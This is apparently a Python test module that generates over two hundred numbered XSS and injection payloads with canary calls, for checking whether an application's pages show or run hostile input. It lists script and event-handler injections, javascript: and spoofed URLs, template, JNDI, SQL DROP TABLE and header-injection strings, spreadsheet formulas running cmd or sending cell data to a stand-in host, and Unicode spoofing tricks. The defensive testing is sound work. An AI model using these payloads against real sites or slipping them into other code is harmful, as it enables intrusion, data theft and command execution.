"""More than two hundred texts that attackers put where other people's pages will show them.

Each carries its own number twice: as the argument of ``canary(n)``, which a page that runs it calls, and as ``¤n¤`` at
its end, by which its text is found on a page that merely shows it. ``trap.invalid`` is where requests would go.
"""

import base64
from collections.abc import Callable
from functools import cache
from typing import Final

TRAP: Final = "trap.invalid"
Make = Callable[[str], str]


def _fixed(*texts: str) -> list[Make]:
    """F stands for the call, T for the trap's host."""
    return [lambda call, text=text: text.replace("F()", call).replace("TRAP", TRAP) for text in texts]  # type: ignore[misc]


ELEMENTS = _fixed(
    "<script>F()</script>",
    "<SCRIPT>F()</SCRIPT>",
    "<script >F()</script >",
    "<script\n>F()</script\n>",
    "<script/x>F()</script>",
    "<<script>F()//<</script>",
    "<script src=//TRAP/x.js></script>",
    "<script type=module>F()</script>",
    "<svg><script>F()</script></svg>",
    "<math><script>F()</script></math>",
    "<template><script>F()</script></template>",
    "<img src=x onerror=F()>",
    "<IMG SRC=x OnErRoR=F()>",
    "<img/src=x/onerror=F()>",
    "<img\tsrc=x\nonerror=F()>",
    "<img src=x onerror='F()'>",
    '<img src=x onerror="F()">',
    "<img src=x onerror=F()//",
    "<image src=x onerror=F()>",
    "<svg onload=F()>",
    "<svg/onload=F()>",
    "<svg><animate onbegin=F() attributeName=x dur=1s>",
    "<svg><set onbegin=F() attributeName=x to=1>",
    "<svg><a xlink:href=javascript:F()><text y=20>x</text></a></svg>",
    "<svg><use href=//TRAP/x.svg#y></svg>",
    "<svg><image href=//TRAP/x width=9 height=9></svg>",
    "<svg><foreignObject><iframe srcdoc='<script>parent.F()</script>'></foreignObject></svg>",
    "<iframe src=javascript:parent.F()></iframe>",
    "<iframe srcdoc='<script>parent.F()</script>'></iframe>",
    "<iframe src=//TRAP/></iframe>",
    "<object data=javascript:F()></object>",
    "<object data=//TRAP/x></object>",
    "<embed src=//TRAP/x>",
    "<details open ontoggle=F()>",
    "<video src=x onerror=F()></video>",
    "<video><source onerror=F() src=x></video>",
    "<video poster=//TRAP/x></video>",
    "<audio src=x onerror=F()></audio>",
    "<input autofocus onfocus=F()>",
    "<select autofocus onfocus=F()></select>",
    "<textarea autofocus onfocus=F()></textarea>",
    "<button popovertarget=x onclick=F()>x</button>",
    "<a href=javascript:F()>x</a>",
    "<a href='java\tscript:F()'>x</a>",
    "<a href=JaVaScRiPt:F()>x</a>",
    "<a href='&#106;avascript:F()'>x</a>",
    "<a href=//TRAP/ ping=//TRAP/p>x</a>",
    "<form action=javascript:F()><button>x</button></form>",
    "<form action=//TRAP/><input name=password></form>",
    "<button formaction=javascript:F()>x</button>",
    "<style>@import '//TRAP/x.css';</style>",
    "<style>*{background:url(//TRAP/x)}</style>",
    "<link rel=stylesheet href=//TRAP/x.css>",
    "<link rel=prefetch href=//TRAP/x>",
    "<div style=background:url(//TRAP/x)>x</div>",
    "<div style='position:fixed;inset:0;background:red'>x</div>",
    "<img src=//TRAP/x.png>",
    "<img srcset=//TRAP/x.png>",
    "<table background=//TRAP/x><tr><td>x</table>",
    "<div hx-get=//TRAP/ hx-trigger=load>x</div>",
    "<div data-hx-get=/admin/ data-hx-trigger=load>x</div>",
    "<div hx-on::load=F()>x</div>",
    "<div hx-on:click=F()>x</div>",
    "<div data-poll=1 hx-get=//TRAP/ hx-trigger=poll>x</div>",
    "<noscript><p title='</noscript><img src=x onerror=F()>'></noscript>",
    "<marquee onstart=F()>x</marquee>",
    "<p onanimationend=F() style='animation:x 1s'>x</p>",
    "<dialog open onclose=F()><form method=dialog><button>x</button></form></dialog>",
    "<!--><img src=x onerror=F()>-->",
    "<![CDATA[><img src=x onerror=F()>]]>",
    "<?xml ?><img src=x onerror=F()>",
    "<x onclick=F() tabindex=1 autofocus onfocus=F()>x</x>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=F()&gt;'>",
)
OUT_OF = (
    '"',
    "'",
    '">',
    "'>",
    '"/>',
    "</textarea>",
    "</title>",
    "</script>",
    "</style>",
    "</option></select>",
    "-->",
    "]]>",
)
CORES = ("<img src=x onerror=F()>", "<svg onload=F()>", "<script>F()</script>", "<details open ontoggle=F()>")
BREAK_OUTS = _fixed(*(before + core for before in OUT_OF for core in CORES))
EVENTS = (
    "onmouseover",
    "onclick",
    "onpointerenter",
    "onfocus",
    "onanimationstart",
    "oncontentvisibilityautostatechange",
)
HANDLERS = _fixed(*(f"{q} {event}={q}F(){q} autofocus x={q}" for event in EVENTS for q in ('"', "'")))
ADDRESSES = _fixed(
    "javascript:F()",
    "JaVaScRiPt:F()",
    "java\tscript:F()",
    "java\nscript:F()",
    "\x01javascript:F()",
    " javascript:F()",
    "javascript://%0aF()",
    "javascript:/*--></title></style></textarea></script><svg/onload='+/\"/+/onmouseover=1/+/[*/[]/+F()//'>",
    "vbscript:F()",
    "data:text/html,<script>F()</script>",
    "data:text/html;base64,PHNjcmlwdD5jYW5hcnkoKTwvc2NyaXB0Pg==",
    "blob:https://TRAP/x",
    "view-source:https://TRAP/",
    "//TRAP/x",
    "\\\\TRAP\\x",
    "https:TRAP/x",
    "https://security.microsoft.com@TRAP/",
    "https://security.microsoft.com.TRAP/",
    "https://TRAP/#security.microsoft.com",
    'http://TRAP/" onmouseover="F()',
    "file:///etc/passwd",
    "ms-excel:ofe|u|https://TRAP/x.xls",
)
CODE = _fixed(
    "';F()//",
    '";F()//',
    "\\';F()//",
    '\\";F()//',
    "*/F()/*",
    "`${F()}`",
    "</script><script>F()</script>",
    "\u2028F()//",
    "{{constructor.constructor('F()')()}}",
    "{{ 7|add:7 }}",
    "{% load static %}{% debug %}",
    "${F()}",
    "#{F()}",
    "<%= F() %>",
    "[[${F()}]]",
    "*{F()}",
    "@(F())",
    '{"__proto__": {"x": "F()"}}',
    "${jndi:ldap://TRAP/x}",
    "'; DROP TABLE incidents_incident; --",
    "\r\nSet-Cookie: a=b\r\n\r\n<script>F()</script>",
    "%0d%0aLocation: //TRAP/",
    "%s%s%s%n %(name)s {0.__class__}",
)
ENCODED = _fixed(
    "&lt;script&gt;F()&lt;/script&gt;",
    "&amp;lt;script&amp;gt;F()&amp;lt;/script&amp;gt;",
    "&#60;script&#62;F()&#60;/script&#62;",
    "&#x3c;img src=x onerror=F()&#x3e;",
    "%3Cscript%3EF()%3C/script%3E",
    "%253Cscript%253EF()%253C/script%253E",
    "\\x3cscript\\x3eF()\\x3c/script\\x3e",
    "\\u003cscript\\u003eF()\\u003c/script\\u003e",
    "+ADw-script+AD4-F()+ADw-/script+AD4-",
    "＜script＞F()＜/script＞",
    "<scr\u0000ipt>F()</scr\u0000ipt>",
    "<scr<script>ipt>F()</scr</script>ipt>",
    "<img src=x onerror=&#99;&#97;&#110;&#97;&#114;&#121;(0)>F()",
    "ı<ſcript>F()</ſcript>",
    "<\u200bscript>F()</script>",
)
HIDDEN = _fixed(
    *(f"invoice{c}gpj.exe" for c in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068\u200e\u200f\u061c"),
    *(f"ad{c}min" for c in "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u115f\u3164\u2800\U000e0041"),
    "\u202e\u2066<img src=x onerror=F()>\u2069\u202c",
    "\x1b[2J\x1b[1;1H\x1b]0;owned\x07",
    "\x1b]8;;https://TRAP/\x07click\x1b]8;;\x07",
    "\x1b[31mred\x1b[0m",
    "\x9b31mred",
    "line\x0bone\x0ctwo\x85three\u2028four\u2029five",
    "bell\x07\x08\x08\x08back\x7f",
    "a" + "\u0301" * 30,
    "tag\U000e0020\U000e007f",
    "раypal.com",
)
FORMULAS = _fixed(
    '=HYPERLINK("https://TRAP/?"&A1,"open")',
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)",
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    '"=1+1"',
    "'=1+1",
    ";=1+1",
    '=IMPORTXML("https://TRAP/","//a")',
    '=WEBSERVICE("https://TRAP/")',
    '=DDE("cmd";"/C calc";"x")',
)


def _encoded_call(call: str) -> str:
    return f"<img src=x onerror=eval(atob('{base64.b64encode(call.encode()).decode()}'))>"


MAKERS: Final[list[Make]] = [
    *(*ELEMENTS, *BREAK_OUTS, *HANDLERS, *ADDRESSES, *CODE, *ENCODED, *HIDDEN, *FORMULAS),
    _encoded_call,
]


@cache
def payloads() -> tuple[str, ...]:
    """All of them, each with its number."""
    return tuple(f"{make(f'canary({number})')}¤{number}¤" for number, make in enumerate(MAKERS))


def pack(start: int, room: int) -> str:
    """As many payloads as fit, from one of them on, whole."""
    every, out, size = payloads(), [], 0
    for step in range(len(every)):
        text = every[(start + step) % len(every)]
        if size + len(text) > room:
            break
        out.append(text)
        size += len(text)
    return "".join(out)
